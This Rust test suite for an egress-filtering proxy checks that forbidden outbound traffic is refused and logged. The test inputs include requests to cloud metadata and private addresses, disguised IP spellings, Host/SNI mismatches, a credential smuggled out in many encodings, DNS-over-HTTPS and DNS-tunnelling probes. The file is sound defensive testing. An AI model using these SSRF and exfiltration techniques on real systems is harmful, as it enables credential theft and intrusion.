//! What must not leave. Each refusal is told to the client in words, is on record, and has a twin that passes.

use super::{DIRECT, Stage, staged, staged_once};
use cofferdam_testkit::eventually;
use serde_json::Value;

/// Everything, so that no rule stands between a request and what is refused under every policy.
const ANYWHERE: &str = r#"
[[rule]]
id = "anywhere"
reason = "to see what else says no"
effect = "allow"
host = "*"
"#;

/// The answer to each of these requests, in one session: status, a tab, and the first line.
fn answers(stage: &Stage<'_>, before: &str, requests: &[&str]) -> Vec<String> {
    let ask = |request: &&str| {
        format!(
            "{before} curl -s -o answer -w '%{{http_code}} %{{exitcode}}' {request}; printf '\\t%s\\n' \"$(head -n 1 answer 2>/dev/null)\"; rm -f answer\n"
        )
    };
    let script: String = requests.iter().map(ask).collect();
    stage.sh(&script).exits(0).out().lines().map(str::to_owned).collect()
}

#[track_caller]
fn all_start(answers: &[String], expected: &str) {
    assert!(!answers.is_empty() && answers.iter().all(|answer| answer.starts_with(expected)), "{answers:#?}");
}

#[test]
fn a_host_that_no_rule_names() {
    staged(|stage| {
        let script = format!(
            "curl -sS https://unlisted.example/a/b; curl -sSf -o /dev/null https://unlisted.example/; echo $?\n\
             {DIRECT} curl -sS https://unlisted.example/; echo $?\n\
             curl -sSf https://open.corp.example/ok"
        );
        let done = stage.sh(&script).exits(0);
        let expected =
            "cofferdam: denied: no rule allows it; ask #agents\nthis rule would allow it:\n\n[[rule]]\n";
        assert!(
            done.out().starts_with(expected) && done.out().contains("host = \"unlisted.example\""),
            "{}",
            done.out()
        );
        assert!(
            done.out().ends_with("\n22\n6\n{\"ok\": true, \"credential\": false, \"bytes\": 0}"),
            "{}",
            done.out()
        );
        let decided = stage.site.bodies("egress.decided");
        let of = |host: &str| decided.iter().filter(|body| body["host"] == host).collect::<Vec<_>>();
        assert_eq!(of("unlisted.example").len(), 2);
        assert!(
            of("unlisted.example").iter().all(|body| body["effect"] == "deny" && body.get("rule").is_none())
        );
        assert_eq!(of("open.corp.example")[0]["effect"], "allow");
        let asked = stage.site.bodies("name.asked");
        assert!(
            asked.iter().any(|asked| asked["name"] == "unlisted.example" && asked.get("answer").is_none()),
            "{asked:#?}"
        );
        let told = stage.site.call(&["trace", "show", "latest"]).exits(0).out();
        assert!(told.contains("denied    GET https://unlisted.example/a/b"), "{told}");
    });
}

/// Metadata services and private networks, whatever the policy says; asked for through the proxy and past it.
#[test]
fn addresses_that_are_not_of_the_public_internet() {
    staged(|stage| {
        stage.policy(ANYWHERE);
        let all = [
            "http://169.254.169.254/latest/meta-data/",
            "http://10.0.0.1/",
            "http://100.100.100.200/",
            "http://192.168.1.1:8080/",
            "http://[fd00:ec2::254]/",
            "http://[::ffff:10.0.0.1]/",
        ];
        for before in ["", DIRECT] {
            let answers = answers(stage, before, &all);
            assert_eq!(answers.len(), all.len());
            all_start(&answers, "403 0\tcofferdam: `");
            assert!(
                answers.iter().all(|answer| answer.contains("only public addresses are reached")),
                "{answers:#?}"
            );
            let refused = stage.refused("forbidden-address");
            assert!(
                refused.len() == all.len() && refused.iter().all(|body| body["alarm"] == true),
                "{refused:#?}"
            );
        }
        // In TLS the client is told in the language of TLS, and curl has a code for that.
        let answers = answers(stage, DIRECT, &["https://10.0.0.1/", "https://open.corp.example/ok"]);
        all_start(&answers[..1], "000 35");
        all_start(&answers[1..], "200 0");
    });
}

/// Another spelling is not another address. curl would spell them anew, so these are sent as they are.
#[test]
fn addresses_in_disguise() {
    staged_once(|stage| {
        stage.policy(ANYWHERE);
        let program = r#"
import os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ["http_proxy"])
def ask(text):
    with socket.create_connection((proxy.hostname, proxy.port)) as stream:
        stream.sendall(text.encode())
        return stream.recv(100).split()[1].decode()
for host in ["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "0xa9.254.0251.254", "[::ffff:a9fe:a9fe]"]:
    print(ask(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"), ask(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"))
print(ask("GET http://plain.corp.example/ HTTP/1.1\r\nHost: plain.corp.example\r\n\r\n"), ask("CONNECT open.corp.example:443 HTTP/1.1\r\nHost: open.corp.example:443\r\n\r\n"))
"#;
        let out = stage.python(program).exits(0).out();
        // The servers themselves do not admit who has no credential.
        assert_eq!(out, "403 403\n".repeat(6) + "401 200\n");
        assert_eq!(stage.refused("forbidden-address").len(), 12);
    });
}

/// The name in the TLS hello, the host of the request and the destination are one, or nothing is sent.
#[test]
fn names_that_do_not_agree() {
    staged(|stage| {
        let all = [
            "https://open.corp.example/disagree -H 'Host: api.corp.example'",
            "--http2 https://open.corp.example/disagree -H 'Host: unlisted.example'",
            "--connect-to open.corp.example:443:api.corp.example:443 https://open.corp.example/disagree",
            "https://open.corp.example/agree",
        ];
        for before in ["", DIRECT] {
            let answers = answers(stage, before, &all);
            all_start(&answers[..2], "421 0\tcofferdam: the request is for `");
            all_start(&answers[2..3], "000 35");
            all_start(&answers[3..], "200 0");
            assert_eq!(stage.refused("name-mismatch").len(), 3);
        }
        let script = "for name in '-servername api.corp.example' -noservername '-servername open.corp.example'; do\n\
             echo | openssl s_client -connect open.corp.example:443 $name -brief -verify_return_error 2>&1 | grep -q '^CONNECTION ESTABLISHED'; echo $?\n\
             done";
        assert_eq!(stage.sh(script).exits(0).out(), "1\n1\n0\n");
        assert_eq!((stage.refused("name-mismatch").len(), stage.refused("no-name").len()), (1, 1));
        assert!(stage.server.seen(|seen| seen["path"] == "/disagree").is_empty());
    });
}

/// A placeholder on its way to where its credential does not belong, in every wrapping that costs nothing to make.
#[test]
fn a_placeholder_in_the_wrong_place() {
    staged(|stage| {
        let path = format!("/gulps/{}", &stage.real[8..]);
        let host = format!("https://open.corp.example{path}");
        let wrapped = |word: &str| {
            let w = format!("printf %s \"{word}\"");
            [
                format!("\"{host}?q={word}\""),
                format!("\"{host}/{word}/x\""),
                format!("{host} -H \"Authorization: Bearer {word}\""),
                format!("{host} -H \"X-Note: it is {word}\""),
                format!("{host} -b \"session={word}\""),
                format!("{host} -A \"agent {word}\""),
                format!("{host} --data-binary \"{{\\\"note\\\": \\\"{word}\\\"}}\""),
                format!("{host} --data-binary \"$(printf 'xx%s' \"{word}\" | base64 -w 0)\""),
                format!("{host} --data-binary \"$({w} | base64 -w 0 | tr '+/' '-_')\""),
                format!("{host} --data-binary \"$({w} | od -An -v -tx1 | tr -d ' \\n')\""),
                format!("{host} --data-binary \"$({w} | od -An -v -tx1 | tr -d '\\n' | tr ' ' %)\""),
                format!("\"{host}?q=$({w} | od -An -v -tx1 | tr -d '\\n' | tr ' ' %)\""),
                format!("{host} -F \"file={word};filename=notes.txt\""),
                format!("--http1.1 -T - {host} < word"),
            ]
        };
        let ask = |word: &str| {
            let requests = wrapped(word);
            let before = format!("printf %s \"a long text with {word} in it\" > word; ");
            answers(stage, &before, &requests.iter().map(String::as_str).collect::<Vec<_>>())
        };
        let refused = ask("$KEY");
        assert_eq!(refused.len(), 14);
        all_start(&refused, "403 0\tcofferdam: credential `key` ");
        let events = stage.refused("credential-misused");
        let times: u64 = events.iter().map(|body| body["times"].as_u64().unwrap()).sum();
        assert!(events.iter().all(|body| body["alarm"] == true), "{events:#?}");
        assert_eq!(times, 14, "{events:#?}");
        // A body is on its way while it is looked through: it breaks off before what must not pass.
        let seen = |broken: bool| {
            let ours = |seen: &Value| seen["path"].as_str().unwrap().starts_with(&path);
            stage.server.seen(|seen| ours(seen) && seen.get("broken").is_some() == broken)
        };
        let begun = seen(false);
        assert!(
            begun.iter().all(|seen| seen["method"] != "GET" && !seen.to_string().contains("sk_live_")),
            "{begun:#?}"
        );
        let broken =
            eventually("bodies to break off", || Some(seen(true)).filter(|seen| seen.len() == begun.len()));
        assert!(broken.iter().all(|seen| !seen.to_string().contains("sk_live_")), "{broken:#?}");
        // The same wrappings around something else pass.
        all_start(&ask("harmless-words-of-the-same-length"), "200 0");
        assert_eq!((seen(false).len(), seen(true).len()), (begun.len() + 14, begun.len()));
    });
}

/// An upload that is refused midway is heard out, so that its client gets to the answer, whatever it speaks.
#[test]
fn a_placeholder_late_in_an_upload() {
    staged_once(|stage| {
        let upload = |version: &str, word: &str| {
            let body = format!("(echo first; sleep 0.2; echo \"{word}\"; sleep 0.2; echo last)");
            format!(
                "{body} | curl -sS {version} -T - -w '%{{http_code}}\\n' https://open.corp.example/gulps\n"
            )
        };
        let refused = ["--http1.1", "--http2"].map(|version| upload(version, "$KEY")).concat();
        let out = stage.sh(&refused).exits(0).out();
        let line = "cofferdam: credential `key` in the body: it may not go to `open.corp.example`: \
            add that host to the credential, if it is right\n403\n";
        assert_eq!(out, line.repeat(2));
        let twins = ["--http1.1", "--http2"].map(|version| upload(version, "harmless")).concat();
        assert_eq!(stage.sh(&twins).exits(0).out(), "{\"bytes\": 20}200\n".repeat(2));
    });
}

/// A placeholder belongs to one session: in another it opens nothing.
#[test]
fn a_placeholder_of_another_session() {
    staged_once(|stage| {
        let get = |word: &str| {
            format!(
                "curl -s -o /dev/null -w '%{{http_code}} ' -H \"Authorization: Bearer {word}\" https://api.corp.example/ok; "
            )
        };
        let first = stage.sh(&(get("$KEY") + "echo $KEY")).exits(0).out();
        let (status, placeholder) = first.trim().split_once(' ').unwrap();
        assert_eq!(status, "200");
        let done = stage.sh(&(get(placeholder) + &get("$KEY"))).exits(0).out();
        assert!(done.trim() == "401 200" || done.trim() == "403 200", "{done}");
        assert_eq!(stage.server.seen_with(&stage.real).len(), 2);
    });
}

/// Names are asked of our DNS and of no other, by no other way.
#[test]
fn names_by_other_ways() {
    staged(|stage| {
        let all = [
            "https://open.corp.example/x -H 'Content-Type: application/dns-message' --data-binary abc",
            "https://open.corp.example/x -H 'Accept: application/dns-json'",
            "'https://open.corp.example/x?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'",
            "https://open.corp.example/dns-query",
        ];
        let refused = answers(stage, "", &all);
        all_start(&refused, "403 0\t");
        assert!(refused.iter().all(|answer| answer.contains("ask our own DNS for names")), "{refused:#?}");
        assert_eq!(stage.refused("dns-over-https").len(), 4);
        let twins = [
            "https://open.corp.example/x -H 'Accept: application/json'",
            "'https://open.corp.example/x?dns=no'",
        ];
        all_start(&answers(stage, "", &twins), "200 0");
        // curl's own DNS over HTTPS, and DNS over TLS.
        let script = format!(
            "{DIRECT} curl -s --doh-url https://open.corp.example/dns-query https://api.corp.example/; echo $?\n\
             echo | openssl s_client -connect open.corp.example:853 -brief 2>&1 | grep -q '^CONNECTION ESTABLISHED'; echo $?"
        );
        assert_eq!(stage.sh(&script).exits(0).out(), "6\n1\n");
        assert!(!stage.refused("dns-over-https").is_empty());
        assert_eq!(stage.refused("dns-port").len(), 1);
    });
}

const DNS: &str = r#"
import os, random, socket, struct
def ask(name, kind, server="127.0.0.1"):
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(1)
        stream.sendto(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + question, (server, 53))
        try:
            answer = stream.recv(2000)
        except TimeoutError:
            return "silence"
    flags, _, answers = struct.unpack(">HHH", answer[2:8])
    return f"{flags & 15} {answers}"
random.seed(1)
long = "".join(random.choices("abcdefghijklmnopqrstuvwxyz234567", k=60))
print(ask("api.corp.example", 1), ask("api.corp.example", 28))
print(ask("api.corp.example", 16), ask(f"{long}.corp.example", 16), ask(f"{long}.corp.example", 1))
print(ask(f"{long}.{long}.{long}.corp.example", 1), ask("unlisted.example", 1))
print(ask("api.corp.example", 1, "9.9.9.9"))
"#;

#[test]
fn tunnels_through_dns() {
    staged(|stage| {
        // Codes: 0 fine, 3 no such name, 5 refused.
        let out = stage.python(DNS).exits(0).out();
        assert_eq!(out, "0 1 0 0\n5 0 3 0 3 0\n3 0 3 0\nsilence\n");
        let asked = stage.site.bodies("name.asked");
        let of = |record: &str| {
            asked.iter().filter(|body| body["record"] == record && body.get("answer").is_none()).count()
        };
        assert_eq!((of("TXT"), of("A")), (2, 3), "{asked:#?}");
        let strays = stage.site.bodies("packet.stray");
        assert!(strays.iter().any(|body| body["destination"] == "9.9.9.9:53"), "{strays:#?}");
    });
}

/// What is neither HTTP nor TLS does not leave, whoever it is for.
#[test]
fn other_protocols() {
    staged(|stage| {
        stage.policy(ANYWHERE);
        let program = r#"
import socket
def say(text, to):
    with socket.create_connection(to, 10) as stream:
        stream.sendall(text)
        stream.settimeout(30)
        try:
            return len(stream.recv(100))
        except ConnectionResetError:
            return 0
print(say(b"*1\r\n$4\r\nPING\r\n", ("8.8.8.8", 6379)), say(b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00", ("open.corp.example", 1883)))
print(say(b"GET /x HTTP/1.1\r\nHost: plain.corp.example\r\n\r\n", ("plain.corp.example", 80)) > 0)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
    stream.sendto(b"\xc0\x00\x00\x00\x01" + bytes(1195), ("8.8.8.8", 443))
    stream.sendto(b"\xc0\x00\x00\x00\x01" + bytes(1195), (socket.gethostbyname("open.corp.example"), 443))
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except PermissionError:
    print("no raw sockets")
"#;
        assert_eq!(stage.python(program).exits(0).out(), "0 0\nTrue\nno raw sockets\n");
        let refused: Vec<Value> =
            stage.refused("not-http-or-tls").iter().map(|body| body["destination"].clone()).collect();
        assert_eq!(refused, ["8.8.8.8:6379", "open.corp.example:1883"]);
        let strays = stage.site.bodies("packet.stray");
        assert!(strays.iter().any(|body| body["destination"] == "8.8.8.8:443"), "{strays:#?}");
        assert_eq!(strays.len(), 2, "{strays:#?}");
    });
}
